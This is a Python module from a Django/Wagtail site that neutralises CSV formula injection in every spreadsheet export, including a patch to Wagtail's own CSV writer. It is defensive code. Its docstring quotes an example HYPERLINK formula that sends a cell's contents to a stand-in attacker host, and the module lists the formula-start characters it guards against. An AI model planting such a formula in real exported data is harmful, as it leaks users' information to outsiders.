"""Every CSV file the hub hands out is written here, so that no cell typed by a member can
run in the spreadsheet that opens it (formula or "CSV injection", OWASP).

Excel, LibreOffice and Google Sheets evaluate a cell whose text starts with "=", "+", "-"
or "@" (and, after stripping, a tab or carriage return): a registration answer
`=HYPERLINK("http://evil.example/?leak="&B2,"Voir")` became a live link that sends the
next cell away. Such a text is written with a leading apostrophe, which spreadsheets read
as "this cell is text" (OWASP's advice); numbers, dates and other non-text values are
written as they are. Files start with a UTF-8 byte order mark so that Excel reads the
accents right. This module is a leaf: it imports nothing of ours."""

import csv
import io
from collections.abc import Iterable

from django.http import HttpResponse
from django.utils.functional import Promise

BOM = "\ufeff"
# OWASP's list, plus the full-width forms some spreadsheet locales read as the same sign.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def neutralise(value):
    """A cell as it is safe to write: text that a spreadsheet would run gets a leading
    apostrophe; anything else is returned unchanged (lazy translations become text)."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """`csv.writer` whose every cell goes through `neutralise()` first."""

    def __init__(self, file, **kwargs):
        self._writer = csv.writer(file, **kwargs)

    def writerow(self, row: Iterable):
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def csv_bytes(header: list, rows: Iterable[Iterable]) -> bytes:
    """A whole CSV file (BOM, header, rows) as UTF-8 bytes, for a zip archive."""
    buffer = io.StringIO()
    buffer.write(BOM)
    writer = SafeWriter(buffer)
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue().encode("utf-8")


def csv_response(filename: str, header: list, rows: Iterable[Iterable]) -> HttpResponse:
    """A CSV download named `filename` (a name we build, never one a member typed)."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.write(BOM)
    writer = SafeWriter(response)
    writer.writerow(header)
    writer.writerows(rows)
    return response


def protect_wagtail_exports() -> None:
    """Wagtail's admin reports export CSV through their own writer, cells as they are (its
    XLSX export already refuses formulas). Site history labels each entry with the object's
    name, and some names are typed by members (an organisation they proposed, then approved
    by staff): every CSV cell Wagtail writes goes through `neutralise()` as well. Called
    once, from HubConfig.ready()."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    original = SpreadsheetExportMixin.preprocess_field_value
    if getattr(original, "neutralised", False):
        return

    def preprocess_field_value(self, field, value, export_format):
        value = original(self, field, value, export_format)
        return neutralise(value) if export_format == self.FORMAT_CSV else value

    preprocess_field_value.neutralised = True
    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
